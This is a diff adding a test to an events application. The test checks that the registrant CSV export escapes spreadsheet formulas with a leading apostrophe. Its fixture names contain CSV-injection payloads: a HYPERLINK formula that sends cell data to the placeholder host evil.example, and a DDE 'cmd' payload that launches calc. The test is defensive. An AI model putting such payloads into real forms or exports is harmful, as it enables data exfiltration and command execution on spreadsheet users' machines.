@@ -179,3 +179,28 @@ def test_the_organiser_cancels_the_event_with_a_reason(client, event, lab_member
     page = client.get("/evenements/atelier/").content.decode()
     assert "Cet événement est annulé" in page
     assert "https://schema.org/EventCancelled" in page
+
+
+def test_the_export_writes_formulas_typed_by_visitors_as_text(client, event, lab_member):
+    RegistrationFactory(
+        event=event,
+        full_name='=HYPERLINK("http://evil.example/?x="&B3,"Cliquez")',
+        email="eve@exemple.fr",
+        organisation_name="@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    RegistrationFactory(
+        event=event, full_name="-Moins", email="m@exemple.fr", organisation_name="+33 1 23"
+    )
+    client.force_login(lab_member)
+
+    response = client.get("/evenements/atelier/inscrits.csv")
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert [row[:3] for row in rows[2:]] == [
+        [
+            '\'=HYPERLINK("http://evil.example/?x="&B3,"Cliquez")',
+            "eve@exemple.fr",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+        ],
+        ["'-Moins", "m@exemple.fr", "'+33 1 23"],
+    ]
